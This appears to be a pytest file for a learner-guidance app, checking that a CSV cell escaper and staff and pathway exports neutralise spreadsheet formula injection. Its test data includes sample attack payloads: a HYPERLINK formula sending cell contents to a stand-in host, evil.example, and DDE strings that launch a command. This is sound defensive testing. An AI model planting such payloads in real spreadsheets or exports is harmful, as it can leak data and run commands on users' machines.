"""Learner and catalogue text escaped for the format it is written into."""
from __future__ import annotations

import csv
import io

import pytest

from guidance import Conversation
from guidance.insights import export_csv
from guidance.journal import QuestionLog
from guidance.models import Pathway, PathwayStep
from guidance.pathways import plan_csv
from knowledge_base.escaping import csv_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "=1+1\n"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "-12.5", "450", "data analyst", "a=b", "I'm 45 - and tired", ""])
def test_numbers_and_ordinary_text_are_left_as_they_are(text):
    assert csv_cell(text) == text


def test_the_staff_export_carries_no_formula_a_learner_typed(sample_assistant, tmp_path):
    log = QuestionLog(tmp_path / "q.sqlite3", retention_days=30)
    question = '=HYPERLINK("http://evil.example","click") welding'
    turn = log.record(centre="c", question=question, reply=sample_assistant.reply(question, Conversation()))
    log.set_feedback(turn, -1, "+SUM(1+1)*cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(export_csv(log.turns("c")))))
    assert rows[1][2] == "'" + question and rows[1][8] == "'+SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(cell[:1] in "=+-@" for row in rows[1:] for cell in row if cell not in ("-1",))


def test_a_plan_from_a_hostile_catalogue_downloads_as_text():
    step = PathwayStep(id="X-1", title="=cmd|' /C calc'!A0", status="needed", credits=3, cost=-0.0,
                       prerequisites=["+1+1"])
    pathway = Pathway(target="X-CERT", title="Certificate", steps=[step])
    rows = list(csv.DictReader(io.StringIO(plan_csv(pathway))))
    assert rows[0]["title"] == "'=cmd|' /C calc'!A0" and rows[0]["prerequisites"] == "'+1+1"
